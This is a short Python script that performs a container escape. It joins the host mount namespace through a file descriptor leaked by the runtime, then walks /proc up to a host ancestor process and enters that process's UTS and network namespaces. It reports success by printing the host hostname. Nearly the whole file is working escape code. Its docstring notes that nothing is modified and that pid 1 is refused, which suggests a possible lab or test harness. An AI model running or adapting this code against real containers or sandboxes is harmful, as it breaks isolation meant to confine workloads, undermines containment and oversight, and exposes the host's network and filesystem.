#!/usr/bin/env python3
"""Container escape through a host process's namespaces.

usage: host_ns_enter.py HOST_MNTNS_FD HOST_MNTNS NS_INIT_PID
1. setns(CLONE_NEWNS) into the host mount namespace through the fd a leaky runtime passed
   in: the host's /proc is now visible;
2. walk up from the context's init (NS_INIT_PID, a host pid) to the first ancestor whose UTS
   namespace is not ours: a host process the harness started (never pid 1: refused);
3. setns(CLONE_NEWUTS) and setns(CLONE_NEWNET) through that process's /proc/<pid>/ns files.
Nothing is changed in any namespace; prints
'entered host namespaces of pid=<p>: uts <ns> net <ns> hostname <name>'.
"""

import ctypes
import os
import sys

CLONE_NEWNS, CLONE_NEWUTS, CLONE_NEWNET = 0x00020000, 0x04000000, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)


def setns(fd, nstype, what):
    if libc.setns(fd, nstype) != 0:
        raise OSError(ctypes.get_errno(), f"setns {what}: {os.strerror(ctypes.get_errno())}")


def ppid_of(pid):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("PPid:"):
                return int(line.split()[1])
    return 0


def main():
    fd, host_mntns, init = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    own_uts = os.readlink("/proc/thread-self/ns/uts")
    setns(fd, CLONE_NEWNS, "mnt")
    if os.readlink("/proc/thread-self/ns/mnt") != host_mntns:
        print("not in the host mount namespace after setns", file=sys.stderr)
        return 2
    pid = init
    while pid > 1:
        pid = ppid_of(pid)
        if pid <= 1:
            break
        if os.readlink(f"/proc/{pid}/ns/uts") != own_uts:
            break
    if pid <= 1:
        print("no host ancestor other than pid 1 (refused: never the machine's PID 1)",
              file=sys.stderr)
        return 3
    for kind, flag in (("uts", CLONE_NEWUTS), ("net", CLONE_NEWNET)):
        nsfd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        try:
            setns(nsfd, flag, kind)
        finally:
            os.close(nsfd)
    uts = os.readlink("/proc/thread-self/ns/uts")
    net = os.readlink("/proc/thread-self/ns/net")
    print(f"entered host namespaces of pid={pid}: uts {uts} net {net} "
          f"hostname {os.uname().nodename}")
    return 0 if uts == os.readlink(f"/proc/{pid}/ns/uts") and uts != own_uts else 4


if __name__ == "__main__":
    sys.exit(main())
